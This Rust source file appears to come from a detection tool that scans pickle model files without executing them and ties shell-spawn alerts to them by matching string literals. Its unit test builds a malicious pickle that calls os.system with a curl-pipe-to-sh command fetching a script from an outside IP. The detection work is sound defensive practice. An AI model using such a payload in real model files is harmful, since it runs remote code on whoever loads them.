//! Ties shell-spawn alerts to the model files the python parent had opened: each file is
//! scanned (never executed) with the model scanner, and string literals of the pickle that
//! appear in the shell's command line are named, since they tie the shell to the file.

use serde_json::{json, Value};
use spawnguard_engine::ModelScanner;
use spawnguard_scan::ScanCache;
use std::path::Path;
use std::sync::Arc;

/// Shortest pickle string literal taken as evidence when found in a command line.
const MIN_LITERAL: usize = 6;

pub struct ScanLink {
    cache: ScanCache,
}

impl ScanLink {
    pub fn new() -> Arc<dyn ModelScanner> {
        Arc::new(ScanLink { cache: ScanCache::new(1024) })
    }
}

impl ModelScanner for ScanLink {
    fn scan(&self, path: &Path, command_line: Option<&str>) -> Option<Value> {
        let report = self.cache.scan(path);
        if !report.is_model() && report.errors.is_empty() {
            return Some(json!({"verdict": "not a model", "formats": report.formats}));
        }
        let calls: Vec<String> = report
            .dangerous()
            .map(|f| f.call.clone().unwrap_or_else(|| f.global.clone()))
            .take(8)
            .collect();
        let tied: Vec<&str> = command_line.map(|c| report.literals_in(c, MIN_LITERAL)).unwrap_or_default();
        Some(json!({
            "verdict": report.verdict,
            "formats": report.formats,
            "calls": calls,
            "command_line_literals": tied,
            "errors": report.errors.len(),
        }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dangerous_pickle_is_tied_to_the_shell_command_line() {
        // pickle protocol 2: os.system("curl -fsSL http://203.0.113.7/x.sh | sh")
        let cmd = "curl -fsSL http://203.0.113.7/x.sh | sh";
        let mut p = b"\x80\x02cposix\nsystem\nq\x00X".to_vec();
        p.extend_from_slice(&(cmd.len() as u32).to_le_bytes());
        p.extend_from_slice(cmd.as_bytes());
        p.extend_from_slice(b"q\x01\x85q\x02Rq\x03.");
        let dir = std::env::temp_dir().join(format!("sg-link-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let f = dir.join("model.bin");
        std::fs::write(&f, &p).unwrap();
        let link = ScanLink::new();
        let v = link.scan(&f, Some(&format!("/bin/sh -c {cmd}"))).unwrap();
        assert_eq!(v["verdict"], "dangerous", "{v}");
        assert!(v["calls"][0].as_str().unwrap().contains("system"), "{v}");
        assert_eq!(v["command_line_literals"][0], cmd, "{v}");
        let none = link.scan(&f, Some("/bin/sh -c ls")).unwrap();
        assert_eq!(none["command_line_literals"], json!([]));
        std::fs::remove_dir_all(&dir).ok();
    }
}
